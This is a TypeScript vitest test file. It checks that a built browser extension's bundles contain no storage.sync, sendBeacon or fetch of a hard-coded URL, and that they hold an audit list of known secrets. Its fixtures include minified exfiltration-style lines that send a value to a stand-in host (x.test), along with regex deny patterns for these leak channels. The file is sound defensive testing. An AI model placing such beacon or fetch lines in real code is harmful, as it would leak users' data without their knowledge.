/**
 * What the built extension (dist/chrome, dist/firefox after `npm run build`) may not hold,
 * whatever the sources look like: no storage.sync, no sendBeacon, no fetch of an http(s) URL
 * written into the code. The raw bundle text is searched, strings included (a URL is a string),
 * so the bundled word list of known secrets, which is data, must not match either.
 */
import { readdirSync, readFileSync } from "node:fs";
import { join, relative } from "node:path";
import { describe, expect, it } from "vitest";

const ROOT = join(import.meta.dirname, "../..");

const FORBIDDEN: { what: string; pattern: RegExp }[] = [
  {
    what: "storage.sync",
    pattern: /\bstorage\s*\??\.\s*sync\b|\bstorage\s*\[\s*["'`]sync["'`]\s*\]/g,
  },
  { what: "sendBeacon", pattern: /\bsendBeacon\b/g },
  { what: "a fetch of an http(s) URL", pattern: /\bfetch\s*\(\s*["'`]https?:/g },
];

function scripts(dir: string): string[] {
  return readdirSync(dir, { withFileTypes: true }).flatMap((e) => {
    const path = join(dir, e.name);
    if (e.isDirectory()) return scripts(path);
    return /\.(m?js|html)$/.test(e.name) ? [path] : [];
  });
}

/** Each match as `file: what …context…`, so a failure shows where in the bundle it is. */
function bundleOffences(file: string, text: string): string[] {
  return FORBIDDEN.flatMap(({ what, pattern }) =>
    [...text.matchAll(pattern)].map(
      (m) => `${file}: ${what} …${text.slice(Math.max(0, m.index - 40), m.index + 40)}…`,
    ),
  );
}

describe.each(["chrome", "firefox"])("the built %s extension", (browser) => {
  const dir = join(ROOT, "dist", browser);

  it("uses no storage.sync, no sendBeacon and fetches no URL written in its code", () => {
    const files = scripts(dir);
    expect(
      files.filter((f) => f.endsWith(".js")).length,
      `${dir} (run npm run build)`,
    ).toBeGreaterThan(3);
    const offences = files.flatMap((f) =>
      bundleOffences(relative(ROOT, f), readFileSync(f, "utf8")),
    );
    expect(offences).toEqual([]);
  });

  it("holds the audit's list of known secrets as its text, one secret a line", () => {
    const texts = scripts(dir).map((f) => readFileSync(f, "utf8"));
    // a .txt bundled as the source of a module would hold "export default" and escaped lines
    expect(texts.some((t) => t.includes("\n'keyboard cat'\n"))).toBe(true);
  });
});

it("the bundle check sees each kind in minified code", () => {
  const minified = [
    "e.storage.sync.set({s:t});",
    't.storage["sync"].get();',
    "navigator.sendBeacon(u,t);",
    'fetch("https://x.test/c?s="+t);',
    "fetch(`http://x.test/`,{body:t});",
  ].join("");
  expect(bundleOffences("b.js", minified).map((o) => o.split(" …")[0])).toEqual([
    "b.js: storage.sync",
    "b.js: storage.sync",
    "b.js: sendBeacon",
    "b.js: a fetch of an http(s) URL",
    "b.js: a fetch of an http(s) URL",
  ]);
});
